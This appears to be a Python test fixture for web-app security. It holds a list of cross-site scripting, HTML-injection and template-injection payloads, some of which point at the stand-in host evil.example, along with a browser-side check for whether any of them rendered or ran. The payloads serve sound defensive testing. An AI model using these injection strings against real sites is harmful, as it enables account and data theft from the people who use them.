"""What is typed by somebody who means harm to whoever reads it. Each leaves a mark where it is taken for markup or runs."""

MARK = "data-planted"
RUN = "window.planted=1"
PAYLOADS = [
    f"<b {MARK}>",
    f"<script>{RUN}</script>",
    f"<script {MARK} src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN} {MARK}>",
    f"<svg/onload={RUN} {MARK}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s {MARK}>",
    f"<iframe srcdoc='<script>parent.planted=1</script>' {MARK}></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN} {MARK}>",
    f'" {MARK} autofocus onfocus="{RUN}',
    f"' {MARK} onmouseover='{RUN}",
    f"` {MARK} onload=`{RUN}",
    f'"><b {MARK}>',
    f"'><b {MARK}>",
    f"--><b {MARK}><!--",
    f"</title><b {MARK}>",
    f"</textarea><b {MARK}>",
    f"</script><b {MARK}>",
    f"]]><b {MARK}>",
    f"<a href='javascript:{RUN}' {MARK}>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>' {MARK}>x</a>",
    f"<div hx-get=/ hx-trigger=load hx-on::load='{RUN}' {MARK}></div>",
    f"<meta http-equiv=refresh content='0;url=//evil.example' {MARK}>",
    f"<link rel=stylesheet href=//evil.example/x.css {MARK}>",
    f"<style {MARK}>*{{background:url(//evil.example)}}</style>",
    f"<base href=//evil.example {MARK}>",
    f"<form action=//evil.example {MARK}><button>x</button></form>",
    f"&lt;b {MARK}&gt;&#60;b {MARK}&#62;",
    f"\u003cb {MARK}\u003e\\u003cb {MARK}\\u003e",
    f"\uff1cb {MARK}\uff1e\u202e\u2066\u200b",
    f"+ADw-b {MARK}+AD4-",
    "{{ 7|add:7000 }}{% now 'U' %}{% load static %}",
    "{{constructor.constructor('window.planted=1')()}}${7*1001}<%= 7*1001 %>",
    "%(name)s {name} {0.__class__} %s %n",
]
# What none of them may have left in a page: markup, a run, an address that runs, a computed number.
FOUND = f"""() => [
    window.planted ? "it ran" : "",
    ...[...document.querySelectorAll("[{MARK}], base, iframe, object, embed, meta[http-equiv=refresh]")].map(each => each.outerHTML.slice(0, 200)),
    ...[...document.querySelectorAll("[href], [src], [action], [formaction]")]
        .flatMap(each => ["href", "src", "action", "formaction"].map(name => each.getAttribute(name) || ""))
        .filter(address => /^[\\s\\x00-\\x1f]*(javascript|data|vbscript):/i.test(address)),
    ...[...document.querySelectorAll("*")].flatMap(each => each.getAttributeNames()).filter(name => /^(on|hx-on)/.test(name)),
    document.documentElement.outerHTML.includes("7007") ? "it was computed" : "",
].filter(Boolean)"""


def hostile(room, number):
    """As many of them as there is room for, beginning with another one each time."""
    text = ""
    for payload in PAYLOADS[number % len(PAYLOADS) :] + PAYLOADS[: number % len(PAYLOADS)]:
        if len(text) + len(payload) <= room:
            text += payload
    return text
